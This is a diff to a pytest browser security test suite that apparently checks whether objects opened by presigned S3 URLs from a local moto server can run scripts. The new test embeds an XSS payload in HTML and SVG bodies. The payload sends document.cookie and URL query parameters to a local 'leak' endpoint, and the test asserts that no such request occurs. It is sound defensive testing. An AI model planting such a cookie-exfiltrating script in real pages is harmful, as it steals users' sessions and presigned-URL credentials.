@@ -1,5 +1,6 @@
 """A page of another origin, in a real browser, gets nothing from a local server."""
 
+import contextlib
 import shutil
 import threading
 from collections.abc import Iterator
@@ -8,7 +9,7 @@ from typing import Any
 
 import pytest
 from moto.server import ThreadedMotoServer
-from playwright.sync_api import Page, sync_playwright
+from playwright.sync_api import Error, Page, sync_playwright
 
 from local.aws import Aws
 from local.credentials import Credentials
@@ -107,3 +108,23 @@ def test_the_page_reads_and_writes_what_moto_serves_without_the_gate(page):
 
 def test_the_page_gets_nothing_from_the_cloud_even_with_the_key(page, cloud):
     assert attacked(page, cloud.aws) == ([], ["secret"])
+
+
+@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml"])
+def test_an_object_opened_by_its_presigned_url_runs_no_script(page, cloud, kind):
+    s3 = cloud.client("s3")
+    script = "fetch('ORIGIN/leak?' + location.search + document.cookie)".replace("ORIGIN", page.url.rstrip("/"))
+    wrapped = {
+        "text/html": f"<!doctype html><script>{script}</script><img src='{page.url}leak'>",
+        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{script}</script></svg>",
+    }[kind]
+    s3.put_object(Bucket=cloud.outputs["Landing"], Key="page", Body=wrapped.encode(), ContentType=kind)
+    url = s3.generate_presigned_url("get_object", Params={"Bucket": cloud.outputs["Landing"], "Key": "page"})
+    asked: list[str] = []
+    assert page.context.browser is not None
+    opened = page.context.browser.new_page()
+    opened.on("request", lambda request: asked.append(request.url))
+    with opened.expect_download() as download, contextlib.suppress(Error):  # a download ends `goto` by an error
+        opened.goto(url)
+    assert download.value.path().read_text() == wrapped
+    assert [each for each in asked if "leak" in each] == []
